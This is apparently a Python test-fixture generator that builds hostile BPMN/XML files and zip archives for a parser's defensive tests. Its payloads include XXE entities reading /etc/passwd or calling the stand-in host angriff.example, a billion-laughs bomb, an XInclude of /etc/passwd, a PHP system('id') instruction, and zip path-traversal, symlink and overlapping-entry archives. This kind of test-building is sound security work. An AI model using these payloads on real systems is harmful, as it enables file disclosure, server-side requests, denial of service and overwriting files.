"""How were the hostile files made? ``python -m tests.foreign.hostile.making`` writes them anew.

All of them are our own work. Each holds an honest process or document beside the attack, so that a
refusal can only be due to the attack.
"""

from __future__ import annotations

import gzip
import io
import struct
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Final

from exporters.package.container import MEDIA_TYPE
from exporters.xprozess.envelope import packed
from model.records import Service
from model.storage import to_bytes
from tests.exporters.xdatenfelder.files import NS3
from tests.exporters.xprozess.files import message

FOLDER: Final = Path(__file__).parent / "files"
DECLARATION: Final = '<?xml version="1.0" encoding="UTF-8"?>\n'
MODEL: Final = "http://www.omg.org/spec/BPMN/20100524/MODEL"
EPOCH: Final = (1980, 1, 1, 0, 0, 0)

# ------------------------------------------------------------------------------------------- XML


def process(inside: str = "", name: str = "Ablauf", root: str = "") -> str:
    """An honest process with one step; ``inside`` stands in the process, ``root`` at the top."""
    return (
        f'<definitions xmlns="{MODEL}" id="d" targetNamespace="urn:t"{root}>\n'
        f'  <process id="p" name="{name}">\n'
        f'    <startEvent id="s"/><task id="t" name="Pruefen"/><endEvent id="e"/>\n'
        f'    <sequenceFlow id="f1" sourceRef="s" targetRef="t"/>\n'
        f'    <sequenceFlow id="f2" sourceRef="t" targetRef="e"/>\n'
        f"    {inside}\n"
        f"  </process>\n"
        f"</definitions>\n"
    )


def documented(text: str) -> str:
    return process(f'<task id="u" name="Zweite"><documentation>{text}</documentation></task>')


def doctype(subset: str, body: str, outside: str = "") -> bytes:
    inner = f" [{subset}]" if subset else ""
    return f"{DECLARATION}<!DOCTYPE definitions{outside}{inner}>\n{body}".encode()


def _laughs(body: str) -> bytes:
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return doctype(f'<!ENTITY l0 "ha">{levels}', body)


def _xml_files() -> dict[str, bytes]:
    plain = process()
    honest = (DECLARATION + plain).encode()
    nested = f"{'<v:x>' * 300}{'</v:x>' * 300}"
    vendor = ' xmlns:v="urn:v"'
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    secret = '<xi:include href="file:///etc/passwd" parse="text"/>'
    twice = "".join(
        f'<process id="{p}"><startEvent id="x"/><endEvent id="x"/></process>' for p in "ab"
    )
    return {
        "entity-file.bpmn": doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', documented("&x;")),
        "entity-http.bpmn": doctype(
            '<!ENTITY x SYSTEM "http://angriff.example/x">', documented("&x;")
        ),
        "entity-parameter.bpmn": doctype(
            '<!ENTITY % p SYSTEM "http://angriff.example/p.dtd">%p;', plain
        ),
        "entity-internal.bpmn": doctype('<!ENTITY x "boese">', documented("&x;")),
        "entity-in-attribute.bpmn": doctype('<!ENTITY x "boese">', process(name="&x;")),
        "dtd-external.bpmn": doctype(
            "", documented("&x;"), ' SYSTEM "http://angriff.example/x.dtd"'
        ),
        "dtd-unused.bpmn": doctype("", plain, ' SYSTEM "http://angriff.example/x.dtd"'),
        "dtd-default.bpmn": doctype('<!ATTLIST task name CDATA "boese">', plain),
        "laughs-text.bpmn": _laughs(documented("&l9;")),
        "laughs-attribute.bpmn": _laughs(process(name="&l9;")),
        "depth-300.bpmn": (
            DECLARATION + process(f"<extensionElements>{nested}</extensionElements>", root=vendor)
        ).encode(),
        "xinclude-root.xml": f"{DECLARATION}<xi:include {include} href='x.bpmn'/>".encode(),
        "xinclude-inside.bpmn": (
            DECLARATION
            + process(f"<extensionElements>{secret}</extensionElements>", root=f" {include}")
        ).encode(),
        "schema-location.bpmn": (
            DECLARATION
            + process(
                root=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
                ' xsi:schemaLocation="urn:t http://angriff.example/t.xsd"'
            )
        ).encode(),
        "instruction.bpmn": (
            DECLARATION
            + '<?xml-stylesheet href="http://angriff.example/x.xsl"?><?php system("id"); ?>\n'
            + plain
        ).encode(),
        "utf-7.bpmn": honest.replace(b"UTF-8", b"UTF-7"),
        "utf-16-says-utf-8.bpmn": honest.decode().encode("utf-16"),
        "mark-of-utf-8-says-latin.bpmn": b"\xef\xbb\xbf" + honest.replace(b"UTF-8", b"ISO-8859-1"),
        "utf-8-says-utf-16.bpmn": honest.replace(b"UTF-8", b"UTF-16"),
        "utf-32.bpmn": plain.encode("utf-32"),
        "utf-16-doctype.bpmn": doctype('<!ENTITY x "boese">', documented("&x;"))
        .replace(b"UTF-8", b"UTF-16")
        .decode()
        .encode("utf-16"),
        "ebcdic.bpmn": honest.decode().encode("cp500"),
        "invalid-utf-8.bpmn": honest.replace(b"Ablauf", b"Abl\xc3\xa4uf \xff\xe4"),
        "nul.bpmn": honest.replace(b"Ablauf", b"Ab\x00lauf"),
        "nul-reference.bpmn": honest.replace(b"Ablauf", b"Ab&#0;lauf"),
        "bidi-name.bpmn": honest.replace(b"Ablauf", b"bericht&#x202e;fdp.exe"),
        "zero-width-name.bpmn": honest.replace(b"Ablauf", b"Ab&#x200b;lauf"),
        "id-twice.bpmn": (
            f'{DECLARATION}<definitions xmlns="{MODEL}" id="d">{twice}</definitions>'
        ).encode(),
        "xml-id-twice.bpmn": honest.replace(b'id="t"', b'id="t" xml:id="a"').replace(
            b'id="s"', b'id="s" xml:id="a"'
        ),
        "attribute-twice.bpmn": honest.replace(b'id="t"', b'id="t" id="u"'),
        "attribute-twice-by-prefix.bpmn": (
            DECLARATION
            + process('<task id="u" a:x="1" b:x="2"/>', root=' xmlns:a="urn:a" xmlns:b="urn:a"')
        ).encode(),
        "unbound-prefix.bpmn": (DECLARATION + process('<v:x id="u"/>')).encode(),
        "second-root.bpmn": honest + b"<definitions/>\n",
        "cut-off.bpmn": honest[: len(honest) // 2],
        "foreign-namespace-root.xml": honest.replace(MODEL.encode(), b"urn:fremd"),
        "foreign-namespace-inside.bpmn": (
            DECLARATION
            + process(
                "<extensionElements><v:task id='x' name='Fremd'/></extensionElements>", root=vendor
            )
        ).encode(),
        "comment-in-value.bpmn": (DECLARATION + documented("ad<!-- -->min")).encode(),
        "gzip.bpmn": gzip.compress(honest, mtime=0),
        "empty.bpmn": b"",
        "schema-doctype.xml": doctype(
            "<!ENTITY x 'F'>",
            f'<x:xdatenfelder.datenfeld.0104 xmlns:x="{NS3}"/>',
        ),
        "schema-of-unknown-version.xml": (
            b'<x:xdatenfelder.datenfeld.0104 xmlns:x="urn:xoev-de:fim:standard:xdatenfelder_9"/>'
        ),
        "message-doctype-inside.xml": message(
            packed(doctype('<!ENTITY x "b">', documented("&x;")), "m.bpmn")
        ),
        "message-traversal-inside.xml": message(packed(honest, "../../m.bpmn")),
        "message-no-base64.xml": message("kein Base64!"),
    }


# ------------------------------------------------------------------------------------------- zip

Entry = tuple[str, bytes]


def document() -> bytes:
    """The working document inside each archive: as little as possible, so that it stays."""
    return to_bytes([Service(id="service_1", name="Ehrlich")])


def archive(*entries: Entry, change: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
    """An archive with the honest document first; ``change`` alters the entries of the attack."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        made.writestr(zipfile.ZipInfo("source/a.fachwerk", EPOCH), document())
        for name, content in entries:
            info = zipfile.ZipInfo(name, EPOCH)
            if change is not None:
                change(info)
            made.writestr(info, content)
    return target.getvalue()


def swapped(data: bytes, old: bytes, new: bytes, which: int = 0) -> bytes:
    """One occurrence of ``old`` replaced; the length stays."""
    assert len(old) == len(new)
    place = -1
    for _ in range(which + 1):
        place = data.index(old, place + 1)
    return data[:place] + new + data[place + len(old) :]


def _twice(*entries: Entry) -> bytes:
    """Names that zipfile warns of: written under other names of the same length first."""
    data = archive(
        *((f"{number}{name[1:]}", content) for number, (name, content) in enumerate(entries))
    )
    for number, (name, _) in enumerate(entries):
        data = data.replace(f"{number}{name[1:]}".encode(), name.encode())
    return data


def overlapping(copies: int) -> bytes:
    """Many entries of the directory that all point at one body."""
    data = archive(("a.bin", b"\0" * 1000))
    end = data[-22:]
    count, size, offset = struct.unpack("<H2L", end[10:20])
    directory = data[offset : offset + size]
    last = directory[directory.rindex(b"PK\1\2") :]
    more = b"".join(
        last.replace(b"a.bin", f"{number:05d}"[-5:].encode()) for number in range(copies)
    )
    return (
        data[:offset]
        + directory
        + more
        + struct.pack(
            "<4s4H2LH", b"PK\5\6", 0, 0, count + copies, count + copies, size + len(more), offset, 0
        )
    )


def _link(info: zipfile.ZipInfo) -> None:
    info.external_attr = 0o120777 << 16


def _size_lie() -> bytes:
    """Both headers say four bytes, the body has ten."""
    data = archive(("a.txt", b"0123456789"))
    true, lie = struct.pack("<L", 10), struct.pack("<L", 4)
    for _ in range(4):
        data = swapped(data, true, lie) if true in data else data
    return data


def _flagged(place: int, value: int) -> bytes:
    """The local header of the last entry says something else than the directory."""
    data = bytearray(archive(("a.txt", b"alpha")))
    start = data.index(b"PK\3\4", 4)
    data[start + place] = value
    return bytes(data)


def _encrypted() -> bytes:
    data = bytearray(archive(("a.txt", b"alpha")))
    data[data.index(b"PK\3\4", 4) + 6] |= 1
    data[data.rindex(b"PK\1\2") + 8] |= 1
    return bytes(data)


def _own_with_a_gap() -> bytes:
    """A package that says it is ours, and has been written by somebody else."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        made.writestr(zipfile.ZipInfo("mimetype", EPOCH), MEDIA_TYPE)
        info = zipfile.ZipInfo("source/a.fachwerk", EPOCH)
        info.extra = struct.pack("<2H4s", 0xCAFE, 4, b"mehr")
        made.writestr(info, document())
    return target.getvalue()


def _zip_files() -> dict[str, bytes]:
    good = archive()
    name = {
        "traversal": "../../boese",
        "traversal-dot": "a/./b",
        "absolute": "/abs",
        "backslash": "..\\..\\boese",
        "drive": "C:\\boese",
        "unc": "\\\\server\\freigabe\\boese",
        "stream": "a.txt:strom",
        "reserved-con": "CON",
        "reserved-nul": "nul.txt",
        "reserved-com": "com1.xml",
        "reserved-lpt": "LPT9",
        "reserved-aux": "aux/x",
        "reserved-conin": "CONIN$",
        "trailing-dot": "a.",
        "trailing-blank": "b ",
        "trailing-folder": "c./x",
        "long-segment": "x" * 300,
        "long-path": "/".join(["ordner"] * 40),
        "bidi": "bericht\u202efdp.exe",
        "zero-width": "a\u200bb.txt",
        "newline": "a\nb.txt",
        "escape": "a\x1b[2Jb.txt",
        "decomposed": unicodedata.normalize("NFD", "ä.txt"),
    }
    files = {f"{key}.zip": archive((path, b"x")) for key, path in name.items()}
    return files | {
        "nul-in-name.zip": archive(("aXb.txt", b"x")).replace(b"aXb.txt", b"a\0b.txt"),
        "link.zip": archive(("verweis", b"/etc/passwd"), change=_link),
        "overlap.zip": overlapping(1),
        "size-lie.zip": _size_lie(),
        "same-name.zip": _twice(("a.txt", b"x"), ("a.txt", b"y")),
        "case-twins.zip": archive(("A.txt", b"x"), ("a.txt", b"y")),
        "unicode-twins.zip": archive(("ﬁ.txt", b"x"), ("fi.txt", b"y")),
        "file-and-folder.zip": archive(("a", b"x"), ("a/b", b"y")),
        "wrong-crc.zip": swapped(archive(("a.txt", b"alpha")), b"alpha", b"alphb"),
        "names-differ.zip": swapped(archive(("a.txt", b"alpha")), b"a.txt", b"c.txt"),
        "prefix.zip": b"#!/bin/sh\n" + good,
        "prefix-behind-mark.zip": b"PK\3\4" + good,
        "two-in-one.zip": good + good,
        "junk-behind.zip": good + b"Anhang",
        "cut-off.zip": good[:-30],
        "local-encrypted.zip": _flagged(6, 1),
        "local-method.zip": _flagged(8, 8),
        "encrypted.zip": _encrypted(),
        "nested.zip": archive(("innen.zip", archive(("../../boese", b"x")))),
        "own-with-a-gap.zip": _own_with_a_gap(),
        "empty.zip": b"PK\5\6" + bytes(18),
    }


def made() -> dict[str, bytes]:
    """Name -> bytes of every committed file."""
    return _xml_files() | _zip_files()


if __name__ == "__main__":
    FOLDER.mkdir(exist_ok=True)
    for file, content in made().items():
        (FOLDER / file).write_bytes(content)
